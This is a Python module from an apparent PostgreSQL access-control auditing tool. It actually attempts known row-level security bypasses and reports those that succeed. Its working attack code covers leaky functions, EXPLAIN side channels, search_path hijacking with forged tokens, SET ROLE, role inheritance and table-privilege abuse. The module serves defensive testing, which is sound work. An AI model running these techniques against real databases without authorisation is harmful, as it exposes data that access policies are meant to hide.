"""The known ways around row-level security, each really tried. What works is named; nothing is inferred from settings.

Each attack returns what worked, by the names of roles, tables and functions; an empty answer means that it failed.
"""

import re
import secrets
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from functools import lru_cache
from importlib.resources import files
from typing import Final

from ruamel.yaml import YAML

from sekisho.enforce import tokens
from sekisho.enforce.connecting import Connection
from sekisho.enforce.quoting import literal, name
from sekisho.enforce.ring import Attack, Ring, Target
from sekisho.enforce.token_attacks import TOKEN_ATTACKS, challenge, some_purpose

_GUESSES: Final = ("sekisho.purpose", "app.purpose", "app.current_purpose", "request.purpose")
_SETTING: Final = re.compile(r"current_setting\(\s*'([a-z_]+\.[a-z_.]+)'")
_CONDITION: Final = re.compile(r"\s*[A-Z][A-Za-z-]*( [A-Z][a-z]+)*( Filter| Cond):|\s*Filter:")
_JOINS: Final = ("hashjoin", "mergejoin", "nestloop")


def unopened(ring: Ring) -> Iterator[str]:
    """Reads without having opened a purpose."""
    for role in ring.logins:
        with ring.acting(role):
            yield from (f"{role}: {where}" for where in _readable(ring))


def hidden_rows(ring: Ring) -> Iterator[str]:
    """Reads what the opened purpose may not see."""
    for role, own in ring.logins.items():
        with ring.acting(role, own or some_purpose(ring)):
            yield from (f"{role}: {where}" for where in _readable(ring))


def client_setting(ring: Ring) -> Iterator[str]:
    """Names its purpose itself, in a setting that any client can set."""
    defined = ring.connection.execute(
        "SELECT coalesce(pg_get_expr(polqual, polrelid), '') FROM pg_policy UNION ALL SELECT pg_get_viewdef(oid) "
        "FROM pg_class WHERE relkind = 'v' AND relnamespace::regnamespace::text LIKE 'sekisho%' "
        "UNION ALL SELECT prosrc FROM pg_proc WHERE pronamespace::regnamespace::text LIKE 'sekisho%'"
    ).fetchall()
    settings = {found for row in defined for found in _SETTING.findall(row[0])} | set(_GUESSES)
    purposes = [purpose for purpose in ring.logins.values() if purpose is not None]
    for role in ring.logins:
        for purpose in purposes:
            with ring.acting(role):
                for setting in sorted(settings):
                    ring.attempt("SELECT set_config(%s, %s, true)", setting, purpose)
                for where in _readable(ring):
                    yield f"{role}: {where}"
                    break


def set_role(ring: Ring) -> Iterator[str]:
    """Becomes another role."""
    others = ring.roles("true")
    for role in ring.logins:
        with ring.acting(role):
            for other in others:
                if other != role and ring.attempt(f"SET LOCAL ROLE {name(other)}") is not None:
                    yield f"{role} → {other}"


def inherited(ring: Ring) -> Iterator[str]:
    """Adds up the purposes of roles that it is a member of."""
    views = {
        purpose: [view for _, view in ring.views(purpose)]
        for purpose in sorted({purpose for purpose in ring.logins.values() if purpose is not None})
    }
    # Only these can have anything to read; whether they do is tried.
    some = (
        "r.rolcanlogin AND NOT r.rolsuper AND EXISTS (SELECT FROM pg_class v WHERE v.relkind = 'v' "
        "AND v.relnamespace = 'sekisho_live'::regnamespace AND has_table_privilege(r.oid, v.oid, 'SELECT'))"
    )
    for role in ring.roles(some):
        if ring.logins.get(role, "") is None:
            continue  # the pool reads every view, and sees nothing without a token
        with ring.acting(role):
            able = [
                purpose
                for purpose, named in views.items()
                if purpose != ring.logins.get(role)
                and any(ring.attempt(f"SELECT FROM {view} LIMIT 0") is not None for view in named)
            ]
        if able:
            yield f"{role}: {', '.join(able)}"


def owner(ring: Ring) -> Iterator[str]:
    """Reads as the owner of a table."""
    known = {*ring.map.administrators, *ring.map.stewards}
    for target in ring.targets:
        found = ring.connection.execute(
            "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE oid = %s::regclass", (target.relation,)
        ).fetchone()
        if found is None or found[0] in known:
            continue
        with ring.acting(found[0]):
            if ring.finds_hidden(target, target.relation):
                yield f"{found[0]}: {target.schema}.{target.table}"


def bypassing(ring: Ring) -> Iterator[str]:
    """Logs in as a role that stands above row-level security and is not known to."""
    for role in ring.roles("r.rolcanlogin AND (r.rolsuper OR r.rolbypassrls)"):
        if role in ring.map.administrators:
            continue
        with ring.acting(role):
            seen = [target for target in ring.targets if ring.finds_hidden(target, target.relation)]
            if seen or role in ring.logins or not ring.targets:
                yield role
                continue
        if ring.roles("r.rolname = %s AND r.rolsuper", role):
            yield role


def leaky_function(ring: Ring) -> Iterator[str]:
    """Has a function of its own called with each row before the view has sorted out the hidden ones."""
    for role, own in ring.logins.items():
        purpose = own or some_purpose(ring)
        for target, view in ring.views(purpose):
            for off in ("", *_JOINS):
                with ring.acting(role, purpose), _heard(ring.connection) as heard:
                    ring.attempt(
                        "CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS "
                        "$$ BEGIN RAISE NOTICE 'leak %%', $1; RETURN true; END $$".replace("%%", "%")
                    )
                    for join in _JOINS if off else ():
                        ring.attempt(f"SET LOCAL enable_{join} = {'on' if join == off else 'off'}")
                    for source in (view, target.relation):
                        ring.attempt(f"SELECT 1 FROM {source} WHERE pg_temp.leak({name(target.key)}::text)")
                if any(f"leak {key}" in heard for key in target.hidden):
                    yield f"{role}: {target.schema}.{target.table}"
                    break


def explained(ring: Ring) -> Iterator[str]:
    """Tells from EXPLAIN whether a value that it may not see is there."""
    for role, own in ring.logins.items():
        purpose = own or some_purpose(ring)
        for target, view in ring.views(purpose):
            told = _tell_apart(ring, role, purpose, target, (view, target.relation))
            if told is not None:
                yield f"{role}: {target.schema}.{target.table}.{told}"


def _tell_apart(ring: Ring, role: str, purpose: str, target: Target, sources: tuple[str, ...]) -> str | None:
    for column in (target.key, *target.columns):
        row = ring.connection.execute(
            f"SELECT t.{name(column)}::text, format_type(a.atttypid, a.atttypmod) FROM {target.relation} t, "
            "pg_attribute a WHERE a.attrelid = %s::regclass AND a.attname = %s "
            f"AND t.{name(target.key)}::text = ANY(%s) AND t.{name(column)} IS NOT NULL "
            # A value that a visible row has too may well be told.
            f"AND NOT EXISTS (SELECT FROM {target.relation} o WHERE o.{name(column)} = t.{name(column)} "
            f"AND o.{name(target.key)}::text <> ALL(%s)) LIMIT 1",
            (target.relation, column, sorted(target.hidden), sorted(target.hidden)),
        ).fetchone()
        if row is None:
            continue
        there, kind = row
        absent = str(10**9 + secrets.randbelow(10**9)) if there.lstrip("-").isdigit() else there[::-1] + "~"
        for source in sources:
            said = []
            with ring.acting(role, purpose):
                for value in (there, absent):
                    found = ring.attempt(
                        "EXPLAIN (ANALYZE, TIMING OFF, SUMMARY OFF) SELECT 1 "
                        f"FROM {source} WHERE {name(column)} = CAST({literal(value)} AS {kind})"
                    )
                    # Conditions name the value that was asked for; numbers of rows and costs are what tells.
                    said.append([line[0] for line in found or [] if _CONDITION.match(line[0]) is None])
            if said[0] != said[1]:
                return column
    return None


def table_rights(ring: Ring) -> Iterator[str]:
    """Empties, changes, refers to or copies a table."""
    for role, own in ring.logins.items():
        for target in ring.targets:
            with ring.acting(role, own or some_purpose(ring)):
                key, of = name(target.key), target.relation
                for what, statement in (
                    ("TRUNCATE", f"TRUNCATE {of}"),
                    ("DELETE", f"DELETE FROM {of}"),
                    ("UPDATE", f"UPDATE {of} SET {key} = {key}"),
                    ("INSERT", f"INSERT INTO {of} ({key}) SELECT {key} FROM {of} WHERE false"),
                ):
                    if ring.attempt(statement) is not None:
                        yield f"{role}: {what} {target.schema}.{target.table}"
                if _copies(ring, target):
                    yield f"{role}: COPY {target.schema}.{target.table}"
            with ring.acting(role) as connection:
                _give_schema(connection, role)
                made = f"CREATE TABLE sekisho_attack.refers (k {ring.map.key_type.value} REFERENCES {of} ({key}))"
                if ring.attempt(made) is not None:
                    yield f"{role}: REFERENCES {target.schema}.{target.table}"


def _copies(ring: Ring, target: Target) -> bool:
    import psycopg

    try:
        with (
            ring.connection.transaction(),
            ring.connection.cursor() as cursor,
            cursor.copy(f"COPY {target.relation} ({name(target.key)}) TO STDOUT") as copy,
        ):
            return bool({row[0] for row in copy.rows()} & target.hidden)
    except psycopg.Error:
        return False


def copies_of_tables(ring: Ring) -> Iterator[str]:
    """Reads a materialised view, another view or a part of a table, to which row-level security does not reach."""
    for target in ring.targets:
        around = ring.connection.execute(
            "WITH RECURSIVE near (oid) AS (SELECT %s::regclass::oid UNION SELECT o.oid FROM near n CROSS JOIN LATERAL "
            "(SELECT r.ev_class FROM pg_depend d JOIN pg_rewrite r ON r.oid = d.objid WHERE d.refobjid = n.oid "
            "AND d.classid = 'pg_rewrite'::regclass UNION ALL SELECT i.inhrelid FROM pg_inherits i "
            "WHERE i.inhparent = n.oid) o (oid)) SELECT n.oid::regclass::text, EXISTS (SELECT FROM pg_attribute a "
            "WHERE a.attrelid = n.oid AND a.attname = %s AND NOT a.attisdropped) FROM near n JOIN pg_class c "
            "ON c.oid = n.oid WHERE n.oid <> %s::regclass AND c.relnamespace::regnamespace::text NOT LIKE 'sekisho%%'",
            (target.relation, target.key, target.relation),
        ).fetchall()
        for role, own in ring.logins.items():
            with ring.acting(role, own or some_purpose(ring)):
                for relation, keyed in around:
                    found = (
                        ring.finds_hidden(target, relation)
                        if keyed
                        else bool(ring.attempt(f"TABLE {relation}"))
                    )
                    if found:
                        yield f"{role}: {relation}"


def search_path(ring: Ring) -> Iterator[str]:
    """Puts functions of its own before those that a function with higher rights calls."""
    pool = ring.map.pool
    purpose = some_purpose(ring)
    with ring.acting(pool) as connection:
        _give_schema(connection, pool)
        ring.attempt(
            "CREATE FUNCTION sekisho_attack.encode(bytea, text) RETURNS text LANGUAGE sql AS $$ SELECT 'forged' $$"
        )
        ring.attempt("SET LOCAL search_path = sekisho_attack, pg_catalog")
        forged = tokens.sign(
            secrets.token_bytes(32),
            challenge(ring),
            purpose=purpose,
            account="attack",
            decision="attack",
            nonce="attack",
            expires=2**40,
        )
        if (
            ring.attempt("SELECT sekisho.begin_purpose(%s)", forged.rpartition("|")[0] + "|forged")
            is not None
        ):
            yield "sekisho.begin_purpose"
    loose = ring.connection.execute(
        "SELECT oid::regprocedure::text FROM pg_proc WHERE prosecdef AND pronamespace::regnamespace::text ~ "
        "'^\"?sekisho' AND NOT coalesce(proconfig, '{}') @> ARRAY['search_path=pg_catalog, pg_temp'] ORDER BY 1"
    ).fetchall()
    yield from (row[0] for row in loose)


ATTACKS: Final[Mapping[str, Attack]] = {
    "unopened": unopened,
    "hidden_rows": hidden_rows,
    "client_setting": client_setting,
    "set_role": set_role,
    "inherited": inherited,
    "owner": owner,
    "bypassing": bypassing,
    "leaky_function": leaky_function,
    "explain": explained,
    "table_rights": table_rights,
    "copies": copies_of_tables,
    "search_path": search_path,
    **TOKEN_ATTACKS,
}
"""Every attack, by name; `attacks.yaml` says what to do when one works."""


@lru_cache(maxsize=1)
def remedies() -> Mapping[str, Mapping[str, str]]:
    """What to do when an attack works: name → language → text."""
    text = files("sekisho.enforce").joinpath("attacks.yaml").read_text(encoding="utf-8")
    loaded: Mapping[str, Mapping[str, str]] = YAML(typ="safe", pure=True).load(text)
    return loaded


def _readable(ring: Ring) -> Iterator[str]:
    """Where the acting role sees a hidden row."""
    purposes = [purpose for purpose in ring.logins.values() if purpose is not None]
    for target in ring.targets:
        if ring.finds_hidden(target, target.relation):
            yield f"{target.schema}.{target.table}"
        for purpose in purposes:
            if ring.finds_hidden(target, name("sekisho_live", f"{purpose}__{target.table}")):
                yield f"{purpose}__{target.table}"


def _give_schema(connection: Connection, role: str) -> None:
    """A schema of the attacker's own: many have one somewhere."""
    connection.execute("RESET SESSION AUTHORIZATION")
    connection.execute(f"CREATE SCHEMA sekisho_attack AUTHORIZATION {name(role)}")
    connection.execute(f"SET LOCAL SESSION AUTHORIZATION {name(role)}")


@contextmanager
def _heard(connection: Connection) -> Iterator[list[str]]:
    said: list[str] = []

    def listen(diagnostic: object) -> None:
        said.append(getattr(diagnostic, "message_primary", "") or "")

    connection.add_notice_handler(listen)
    try:
        yield said
    finally:
        connection.remove_notice_handler(listen)
